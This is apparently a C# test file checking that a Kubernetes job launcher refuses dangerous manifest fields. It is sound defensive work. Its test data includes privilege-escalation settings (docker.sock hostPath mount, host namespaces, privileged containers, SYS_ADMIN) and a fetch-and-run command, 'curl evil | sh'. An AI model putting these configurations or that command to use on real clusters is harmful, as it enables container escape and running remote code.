using System.Text.Json.Nodes;
using WandbLaunch.Engine.Errors;
using WandbLaunch.Engine.Jobs;
using WandbLaunch.Engine.Runners.Kubernetes;

namespace WandbLaunch.Engine.KubeTests;

/// <summary>Every field a queue config or launch spec may not set is refused with ForbiddenManifestField, naming its path.</summary>
public sealed class ManifestPolicyTests
{
    private static LaunchException Refuse(string kubernetesJson, bool secureMode = false, string overridesJson = "{}")
    {
        using var dir = new TempDirectory();
        using var log = new JobLog(dir.File("job.log"), []);
        var spec = new JsonObject
        {
            ["run_id"] = "pol0run1",
            ["docker"] = new JsonObject { ["docker_image"] = "registry.example.com/ml/train:1" },
            ["overrides"] = JsonNode.Parse(overridesJson),
            ["resource_args"] = new JsonObject { ["kubernetes"] = JsonNode.Parse(kubernetesJson) },
        };
        var env = new Dictionary<string, string> { ["HOME"] = dir.Path };
        var runner = new KubernetesRunner(n => env.GetValueOrDefault(n));
        return Assert.ThrowsAny<LaunchException>(() => runner.Render(Contexts.For(spec, log, dir.Path, secureMode)));
    }

    private static string Pod(string podSpecJson) => """{"spec": {"template": {"spec": """ + podSpecJson + "}}}";

    public static TheoryData<string, string> Refused => new()
    {
        { Pod("""{"volumes": [{"name": "ok", "emptyDir": {}}, {"name": "docker", "hostPath": {"path": "/var/run/docker.sock"}}]}"""), "spec.template.spec.volumes[1].hostPath" },
        { Pod("""{"hostPID": true}"""), "spec.template.spec.hostPID" },
        { Pod("""{"hostIPC": true}"""), "spec.template.spec.hostIPC" },
        { Pod("""{"hostNetwork": true}"""), "spec.template.spec.hostNetwork" },
        { Pod("""{"serviceAccountName": "cluster-admin"}"""), "spec.template.spec.serviceAccountName" },
        { Pod("""{"automountServiceAccountToken": true}"""), "spec.template.spec.automountServiceAccountToken" },
        { Pod("""{"containers": [{"name": "web", "ports": [{"containerPort": 8080, "hostPort": 80}]}]}"""), "spec.template.spec.containers[0].ports[0].hostPort" },
        { Pod("""{"containers": [{"name": "a"}, {"name": "b", "securityContext": {"privileged": true}}]}"""), "spec.template.spec.containers[1].securityContext.privileged" },
        { Pod("""{"containers": [{"securityContext": {"allowPrivilegeEscalation": true}}]}"""), "spec.template.spec.containers[0].securityContext.allowPrivilegeEscalation" },
        { Pod("""{"containers": [{"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}]}"""), "spec.template.spec.containers[0].securityContext.capabilities.add" },
        { Pod("""{"containers": [{"securityContext": {"seccompProfile": {"type": "Unconfined"}}}]}"""), "spec.template.spec.containers[0].securityContext.seccompProfile.type" },
        { Pod("""{"securityContext": {"seccompProfile": {"type": "Unconfined"}}}"""), "spec.template.spec.securityContext.seccompProfile.type" },
        { Pod("""{"initContainers": [{"name": "setup", "image": "busybox", "securityContext": {"privileged": true}}]}"""), "spec.template.spec.initContainers[0].securityContext.privileged" },
        // A custom resource: every pod template is checked, not only the first.
        { """
          {"apiVersion": "kubeflow.org/v1", "kind": "PyTorchJob", "spec": {"pytorchReplicaSpecs": {
            "Master": {"template": {"spec": {"containers": [{"name": "pytorch"}]}}},
            "Worker": {"template": {"spec": {"hostNetwork": true, "containers": [{"name": "pytorch"}]}}}}}}
          """, "spec.pytorchReplicaSpecs.Worker.template.spec.hostNetwork" },
    };

    [Theory]
    [MemberData(nameof(Refused))]
    public void RefusesTheFieldAndNamesItsPath(string kubernetes, string path)
    {
        var e = Refuse(kubernetes);
        Assert.Equal("ForbiddenManifestField", e.ErrorId);
        Assert.Contains($"sets {path},", e.Message);
        Assert.Equal(path, e.Target);
    }

    public static TheoryData<string, string, string> RefusedInSecureMode => new()
    {
        { Pod("""{"initContainers": [{"name": "setup", "image": "busybox"}]}"""), "{}", "spec.template.spec.initContainers" },
        { Pod("""{"containers": [{"name": "main", "command": ["sh", "-c", "curl evil | sh"]}]}"""), "{}", "spec.template.spec.containers[0].command" },
        { "{}", """{"entry_point": ["python", "other.py"]}""", "overrides.entry_point" },
    };

    [Theory]
    [MemberData(nameof(RefusedInSecureMode))]
    public void SecureModeRefusesMore(string kubernetes, string overrides, string path)
    {
        var e = Refuse(kubernetes, secureMode: true, overridesJson: overrides);
        Assert.Equal("ForbiddenManifestField", e.ErrorId);
        Assert.Contains(path, e.Message);
        Assert.Contains("secure_mode", e.Message);
    }

    [Fact]
    public void WithoutSecureModeInitContainersCommandsAndEntryPointsAreAllowed()
    {
        using var dir = new TempDirectory();
        using var log = new JobLog(dir.File("job.log"), []);
        var spec = (JsonObject)JsonNode.Parse("""
            {"run_id": "pol0run2", "docker": {"docker_image": "img:1"}, "overrides": {"entry_point": ["python", "train.py"]},
             "resource_args": {"kubernetes": {"spec": {"template": {"spec": {
               "securityContext": {"runAsNonRoot": true, "runAsUser": 1000, "seccompProfile": {"type": "RuntimeDefault"}},
               "initContainers": [{"name": "setup", "image": "busybox", "command": ["true"]}],
               "containers": [{"name": "main", "securityContext": {"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}}}]}}}}}}
            """)!;
        var env = new Dictionary<string, string> { ["HOME"] = dir.Path };
        var rendered = new KubernetesRunner(n => env.GetValueOrDefault(n)).Render(Contexts.For(spec, log, dir.Path));
        Assert.Contains("- python", rendered.Text);
        Assert.Contains("name: setup", rendered.Text);
    }
}
